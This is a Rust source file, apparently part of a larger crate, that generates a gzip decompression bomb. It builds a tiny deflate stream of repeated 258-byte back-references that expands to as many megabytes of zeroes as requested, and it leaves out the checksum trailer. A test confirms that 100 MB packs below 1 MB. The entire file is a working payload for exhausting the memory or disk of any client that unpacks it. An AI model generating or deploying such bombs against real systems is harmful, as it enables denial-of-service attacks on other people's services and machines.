//! A decompression bomb: little on the wire, very much when it is unpacked.

/// As a gzip file begins: deflate, no name, no time, no system.
const HEAD: [u8; 10] = [0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255];
/// A match of this many bytes takes [`MATCH_BITS`]: no other takes less for more.
const MATCH_BYTES: usize = 258;
const MATCH_BITS: u32 = 13;
/// The codes of such a match, 258 bytes from one byte back, in the order in which they are sent.
const MATCH: u64 = 0b0_0000_1010_0011;

/// Returns a gzip stream that unpacks to at least so many megabytes of zeroes.
pub(crate) fn gzip(megabytes: usize) -> Vec<u8> {
    let mut bits = Bits {
        bytes: HEAD.to_vec(),
        rest: 0,
        count: 0,
    };
    // The last block, with the fixed codes; then one zero to repeat.
    bits.push(0b011, 3);
    bits.push(0b0000_1100, 8);
    for _ in 0..(megabytes << 20).div_ceil(MATCH_BYTES) {
        bits.push(MATCH, MATCH_BITS);
    }
    // The end of the block. Whoever comes as far as the check sum has burst before.
    bits.push(0, 7);
    bits.push(0, 8);
    bits.bytes
}

/// Bits as deflate packs them: the lowest of a byte first.
struct Bits {
    bytes: Vec<u8>,
    rest: u64,
    count: u32,
}

impl Bits {
    fn push(&mut self, bits: u64, count: u32) {
        self.rest |= bits << self.count;
        self.count += count;
        while self.count >= 8 {
            self.bytes.push(self.rest as u8);
            self.rest >>= 8;
            self.count -= 8;
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_bomb_is_small_until_it_is_unpacked() {
        let bomb = gzip(100);
        assert!(bomb.len() < 1 << 20);
        assert_eq!(bomb[..2], [0x1f, 0x8b]);
    }
}
